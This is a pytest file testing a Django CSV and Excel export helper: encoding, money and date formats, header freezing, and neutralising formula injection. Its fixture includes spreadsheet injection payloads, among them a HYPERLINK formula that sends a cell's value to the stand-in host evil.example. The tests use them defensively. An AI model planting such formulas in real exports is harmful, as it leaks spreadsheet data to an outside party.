import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.exports import Column, export_response

ROWS = [{"code": "D1", "name": "杭州百顺", "amount": Decimal("12.50"), "day": date(2026, 1, 2)}, {"code": "D2", "name": "B", "amount": None, "day": None}]
COLUMNS = [Column("Code", "code"), Column("Name", "name"), Column("Amount", "amount"), Column("Day", lambda row: row["day"])]


def test_export_csv_streams_a_bom_header_and_rows():
    response = export_response(ROWS, COLUMNS, filename="dealers", fmt="csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeffCode,Name,Amount,Day\r\n")
    assert "D1,杭州百顺,12.50,2026-01-02\r\n" in body and "D2,B,,\r\n" in body
    assert response["Content-Disposition"].startswith('attachment; filename="dealers-')


def test_export_xlsx_keeps_numbers_as_numbers():
    response = export_response(ROWS, COLUMNS, filename="dealers", fmt="xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert rows[0] == ("Code", "Name", "Amount", "Day")
    assert rows[1][0] == "D1" and rows[1][2] == 12.5


def test_export_xlsx_formats_money_integers_and_dates_and_freezes_the_header():
    from common.exports import MONEY

    rows = [{"code": "D1", "total": Decimal("1234.5"), "cases": 1200, "day": date(2026, 10, 1)}]
    columns = [Column("Code", "code"), Column("Total", "total", kind=MONEY), Column("Cases", "cases"),
               Column("Day", "day")]
    response = export_response(rows, columns, filename="orders", fmt="xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    code, total, cases, day = sheet[2]
    assert total.value == 1234.5 and total.number_format == '"¥"#,##0.00'
    assert cases.value == 1200 and cases.number_format == "#,##0"
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert code.value == "D1" and code.data_type == "s"
    assert all(cell.font.bold for cell in sheet[1])


@pytest.mark.django_db
def test_export_xlsx_of_the_order_list_has_money_cells(client):
    from accounts.tests.factories import FinanceFactory
    from inventory.tests.factories import OrderFactory

    order = OrderFactory()
    client.force_login(FinanceFactory())
    response = client.get("/inventory/orders/?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    total = sheet.cell(row=2, column=header.index("Total") + 1)
    assert total.value == float(order.total) and total.number_format == '"¥"#,##0.00'
    submitted = sheet.cell(row=2, column=header.index("Submitted") + 1)
    assert submitted.is_date and submitted.number_format == "yyyy-mm-dd hh:mm"
HOSTILE = [
    {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "phone": "+86 138 0000 0000", "note": "-2+3",
     "mail": "@SUM(1+1)", "tab": "\t=1+1", "cr": "\r=1+1", "balance": Decimal("-250.00"), "count": -3},
]
HOSTILE_COLUMNS = [Column(name, name) for name in ("name", "phone", "note", "mail", "tab", "cr", "balance", "count")]


def test_export_csv_neutralises_formula_text_but_keeps_negative_numbers():
    body = b"".join(export_response(HOSTILE, HOSTILE_COLUMNS, filename="x", fmt="csv").streaming_content).decode("utf-8")
    import csv

    row = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))[1]
    assert row[:6] == ["'" + HOSTILE[0][name] for name in ("name", "phone", "note", "mail", "tab", "cr")]
    assert row[6:] == ["-250.00", "-3"]


def test_export_xlsx_writes_no_formula_and_keeps_negative_numbers_numeric():
    response = export_response(HOSTILE, HOSTILE_COLUMNS, filename="x", fmt="xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in cells[:5]] == ["'" + HOSTILE[0][name] for name in ("name", "phone", "note", "mail", "tab")]
    assert cells[5].value.startswith("'")  # (XML reads the carriage return back as a line feed)
    assert cells[6].value == -250 and cells[6].data_type == "n" and cells[7].value == -3


def test_export_neutralised_leaves_ordinary_text_alone():
    from common.exports import neutralised

    assert neutralised("杭州百顺") == "杭州百顺" and neutralised("A-1") == "A-1" and neutralised("") == ""
